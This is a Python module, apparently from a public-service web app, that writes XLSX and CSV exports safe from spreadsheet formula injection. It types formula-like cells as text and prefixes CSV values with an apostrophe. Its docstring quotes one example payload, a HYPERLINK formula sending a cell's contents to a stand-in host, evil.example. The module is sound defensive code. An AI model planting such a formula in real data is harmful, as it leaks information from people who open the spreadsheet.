"""The one XLSX/CSV writer: tables for staff to open in a spreadsheet, safe from formula injection.

A citizen's name or a complaint's text can begin with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return; a spreadsheet would run such a cell as a formula
(``=HYPERLINK("http://evil.example/?x="&A1, "Klik")``). Every export goes through this
module, which writes such values as text:

- XLSX: the cell is typed as a string (``data_type "s"``), so the text shows as typed.
  ``workbook_bytes`` checks every cell of every sheet before saving: Loket's workbooks
  hold data, never formulas.
- CSV: the value is prefixed with an apostrophe, the OWASP advice, since CSV has no types.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from flask import Response
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIMETYPE = "text/csv"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """Whether a spreadsheet could take ``value`` for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_safe(value: Any) -> Any:
    """``value`` for a CSV cell: text that could start a formula gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


def append_row(sheet: Worksheet, values: Iterable[Any], bold: bool = False) -> None:
    """Append one row (formula-like text is typed as text when the workbook is saved, by ``workbook_bytes``)."""
    sheet.append(list(values))
    if bold:
        for cell in sheet[sheet.max_row]:
            cell.font = Font(bold=True)


def append_table(sheet: Worksheet, headers: Sequence[str], rows: Iterable[Sequence[Any]],
                 title: str | None = None) -> None:
    """Write an optional bold title line, a bold header row, then the rows."""
    if title is not None:
        append_row(sheet, [title], bold=True)
    append_row(sheet, headers, bold=True)
    for row in rows:
        append_row(sheet, row)


def workbook_bytes(book: Workbook) -> bytes:
    """The workbook as the bytes of an .xlsx file; any formula-like text is typed as text first."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if is_formula_like(cell.value):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows (headers and blank separator rows included) as CSV text, formula-safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_safe(value) for value in row])
    return out.getvalue()


def _download(body: bytes | str, mimetype: str, filename: str) -> Response:
    response = Response(body, mimetype=mimetype)
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.headers["Cache-Control"] = "private, no-store"
    return response


def xlsx_bytes_response(body: bytes, filename: str) -> Response:
    """The bytes of a workbook made by ``workbook_bytes`` as a download (personal data inside: kept by no cache)."""
    return _download(body, XLSX_MIMETYPE, filename)


def csv_response(text: str, filename: str) -> Response:
    """CSV text made by ``csv_text`` as a download."""
    return _download(text, CSV_MIMETYPE, filename)
